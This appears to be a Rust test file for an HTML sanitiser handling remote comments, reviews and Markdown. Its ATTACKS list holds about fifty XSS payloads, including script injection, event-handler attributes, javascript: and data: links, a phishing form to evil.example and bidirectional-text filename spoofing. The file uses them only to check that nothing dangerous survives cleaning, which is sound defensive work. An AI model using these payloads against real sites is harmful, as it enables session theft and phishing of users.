//! What must never come out of the sanitiser, whoever wrote the text (group 9 of "Attacks that are tests").

use proptest::prelude::*;

use super::*;

fn remote(html: &str) -> String {
    remote_html(html, None).into_string()
}

/// Fails when the markup could do anything but show words. Text is escaped, so a raw `<` always starts a tag.
fn assert_harmless(html: &str, from: &str) {
    for tag in html.split('<').skip(1) {
        let inside = tag.split('>').next().unwrap();
        let name: String = inside
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        assert!(
            !matches!(
                Kind::Review.fate(&name),
                crate::domain::text::policy::Fate::Remove | crate::domain::text::policy::Fate::Image
            ),
            "<{name}> survived in {html:?} from {from:?}"
        );
        let mut rest = inside
            .get(name.len() + usize::from(inside.starts_with('/'))..)
            .unwrap_or_default();
        while let Some((attribute, after)) = rest.split_once("=\"") {
            let attribute = attribute.trim().to_ascii_lowercase();
            let (value, after) = after.split_once('"').unwrap();
            assert!(
                !attribute.starts_with("on") && attribute != "style" && attribute != "id",
                "{attribute} in {html:?}"
            );
            if attribute == "href" {
                let value = value.to_ascii_lowercase();
                let fine = ["http://", "https://", "mailto:", "/", "#"]
                    .iter()
                    .any(|start| value.starts_with(start));
                assert!(fine, "href {value:?} survived in {html:?} from {from:?}");
            }
            rest = after;
        }
    }
    assert!(
        !html.chars().any(crate::domain::text::reorders_text),
        "text can be turned around in {html:?}"
    );
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://bank.example@evil.example/\">bank</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
    "<p style=\"background:url(https://track.example)\">x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p></xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=\"__proto__\" name=x>clobber</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>\u{202E}gpj.exe\u{202C}</p>",
    "<p>&#x202E;gpj.exe &#8238; \u{2066}x\u{2069}</p>",
    "<a href=\"https://x.example/&#x202E;gpj\">&#x202e;x</a>",
    "<<<<p>>>><<a href=\"\"<b>",
    "<p/onclick=alert(1)>x",
    "<a\u{0}href=\"javascript:alert(1)\">x</a>",
    "<x-card onmouseover=alert(1)>x</x-card>",
    "<table background=\"javascript:alert(1)\"><td background=x>y</table>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<a href=\"//evil.example\">x</a><a href=\"\\\\evil.example\">y</a>",
];

#[test]
fn known_attacks_come_out_harmless_in_every_kind_of_text() {
    for attack in ATTACKS {
        let comment = remote(attack);
        assert_harmless(&comment, attack);
        assert_eq!(remote(&comment), comment, "{attack}");
        let review = review_html(attack).into_string();
        assert_harmless(&review, attack);
        assert_eq!(review_html(&review).into_string(), review, "{attack}");
        assert_harmless(crate::domain::text::markdown::to_html(attack).as_str(), attack);
        assert_harmless(crate::domain::text::comment::to_html(attack, &[]).as_str(), attack);
    }
}

#[test]
fn an_ordinary_mastodon_reply_keeps_its_shape() {
    let html = "<p><span class=\"h-card\" translate=\"no\"><a href=\"https://reviews.example/@eve\" class=\"u-url \
                mention\">@<span>eve</span></a></span> I agree<br>about <a href=\"https://social.example/tags/noir\" \
                class=\"mention hashtag\" rel=\"tag\">#<span>noir</span></a></p>";
    let expected = "<p><span class=\"h-card\" translate=\"no\"><a href=\"https://reviews.example/@eve\" class=\"u-url \
                    mention\" rel=\"nofollow noopener ugc\">@<span>eve</span></a></span> I agree<br>about \
                    <a href=\"https://social.example/tags/noir\" class=\"mention hashtag\" rel=\"nofollow noopener \
                    ugc\">#<span>noir</span></a></p>";
    assert_eq!(remote(html), expected);
}

#[test]
fn a_folded_mastodon_link_stays_folded_and_honest() {
    let html = "<p><a href=\"https://films.example/reviews/a-very-long-address-of-a-page\"><span class=\"invisible\">\
                https://</span><span class=\"ellipsis\">films.example/reviews/a-very-lo</span><span \
                class=\"invisible\">ng-address-of-a-page</span></a></p>";
    let out = remote(html);
    assert!(
        out.contains("<span class=\"ellipsis\">films.example/reviews/a-very-long-address-o</span>"),
        "{out}"
    );
    assert!(out.contains("<span class=\"invisible\">https://</span>"), "{out}");
}

#[test]
fn invisible_spans_cannot_hide_where_a_link_goes() {
    let fake = "<a href=\"https://evil.example/bank.example\"><span class=\"invisible\">https://evil.example/</span>\
                bank.example</a>";
    let out = remote(fake);
    assert!(out.contains("<span>evil.example/bank.example</span>"), "{out}");
    let hidden = "<a href=\"https://evil.example/\"><span class=\"invisible\">https://evil.example/ </span>bank.example\
                  </a><span class=\"invisible\">secret</span>";
    let out = remote(hidden);
    assert!(!out.contains("invisible"), "{out}");
    assert!(out.contains("https://evil.example/ "), "{out}");
}

#[test]
fn headings_images_boxes_and_tables_keep_their_words() {
    assert_eq!(remote("<h1>Big</h1>"), "<p><strong>Big</strong></p>");
    assert_eq!(
        remote("a <img class=\"emoji\" alt=\":cat:\" src=\"https://e.example/c.png\"> b"),
        "a :cat: b"
    );
    assert_eq!(remote("<div>one</div><div>two</div>"), "<p>one</p><p>two</p>");
    assert_eq!(remote("<div><p>one</p><p> </p></div>"), "<p>one</p>");
    assert_eq!(remote("<table><tr><td>a</td><td>b</td></tr></table>"), "<p>a b </p>");
    assert_eq!(remote("<img src=\"https://e.example/pixel.gif\">"), "");
}

#[test]
fn broken_markup_is_closed() {
    assert_eq!(remote("<p>one<p>two <em>three"), "<p>one</p><p>two <em>three</em></p>");
    assert_eq!(remote("</div></p>x</span>"), "x");
    assert_eq!(remote("<ul><li>a<li>b</ul>"), "<ul><li>a</li><li>b</li></ul>");
}

#[test]
fn relative_links_of_a_remote_text_point_home() {
    let base = Url::parse("https://lemmy.example/comment/5").unwrap();
    let out = remote_html("<a href=\"/c/films\">films</a>", Some(&base)).into_string();
    assert!(out.contains("href=\"https://lemmy.example/c/films\""), "{out}");
    assert!(
        !remote("<a href=\"/c/films\">films</a>").contains("href"),
        "no base, no link"
    );
}

#[test]
fn site_paths_can_be_made_absolute_for_readers_elsewhere() {
    let base = Url::parse("https://reviews.example/").unwrap();
    let html = review_html("<p>See <a href=\"/films/heat\">Heat</a></p>");
    assert!(html.as_str().contains("href=\"/films/heat\""), "{html}");
    assert!(
        with_absolute_links(&html, &base)
            .as_str()
            .contains("href=\"https://reviews.example/films/heat\"")
    );
}

#[test]
fn a_huge_text_is_cut_and_still_closed() {
    let out = remote(&"<p>word <b>bold</b></p>".repeat(100_000));
    assert!(out.len() <= MAX_COMMENT_BYTES, "{}", out.len());
    assert_eq!(remote(&out), out);
}

#[test]
fn deep_nesting_is_flattened_quickly() {
    let out = remote(&"<blockquote>".repeat(10_000));
    assert!(out.matches("<blockquote>").count() <= 48, "{}", out.len());
    let formatting = remote(&"<b><i>".repeat(10_000));
    assert_eq!(remote(&formatting), formatting);
}

#[test]
fn a_text_that_swells_in_cleaning_becomes_plain_words() {
    let out = remote(&"<a href=http://a.b>x</a>".repeat(5_000));
    assert!(out.len() <= MAX_COMMENT_BYTES, "{}", out.len());
    assert_eq!(remote(&out), out);
}

fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[ a-z\"'&;=\\n]{0,8}",
        "\\PC{0,4}",
        proptest::sample::select(ATTACKS).prop_map(ToOwned::to_owned),
        proptest::sample::select(
            &[
                "<p>",
                "</p>",
                "<a href='https://a.example/b'>",
                "</a>",
                "<b>",
                "</b>",
                "<i>",
                "</i>",
                "<table>",
                "<tr>",
                "<td>",
                "</table>",
                "<ul>",
                "<li>",
                "</ul>",
                "<pre>\n\n",
                "</pre>",
                "<blockquote>",
                "</blockquote>",
                "<h2>",
                "</h2>",
                "<details class=spoiler>",
                "<details class='spoiler inline'>",
                "<div class=paragraph>",
                "<div>",
                "</div>",
                "<summary>",
                "</details>",
                "<dl>",
                "<dt>",
                "<dd>",
                "https://a.example/b",
                "<span class='invisible h-card'>",
                "</span>",
                "<br>",
                "</br>",
                "<hr>",
                "<code>",
                "<!--",
                "-->",
                "<svg>",
                "</svg>",
                "<math>",
                "&lt;script&gt;",
                "&nbsp;",
                "\u{a0}",
                "<img alt='x' src='https://i.example/'>",
                "<a href='/x'>",
                "<caption>",
                "<tbody>",
                "<q>",
                "<a href='mailto:a@b.example'>",
                "\u{202E}",
            ][..]
        )
        .prop_map(ToOwned::to_owned),
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn cleaning_a_clean_comment_changes_nothing_and_nothing_dangerous_survives(html in soup()) {
        let once = remote(&html);
        assert_harmless(&once, &html);
        prop_assert_eq!(remote(&once), once);
    }

    #[test]
    fn cleaning_a_clean_review_changes_nothing_and_nothing_dangerous_survives(html in soup()) {
        let once = review_html(&html).into_string();
        assert_harmless(&once, &html);
        prop_assert_eq!(review_html(&once).into_string(), once);
    }

    #[test]
    fn any_markdown_renders_to_harmless_html(source in soup()) {
        assert_harmless(crate::domain::text::markdown::to_html(&source).as_str(), &source);
        assert_harmless(crate::domain::text::comment::to_html(&source, &[]).as_str(), &source);
    }
}
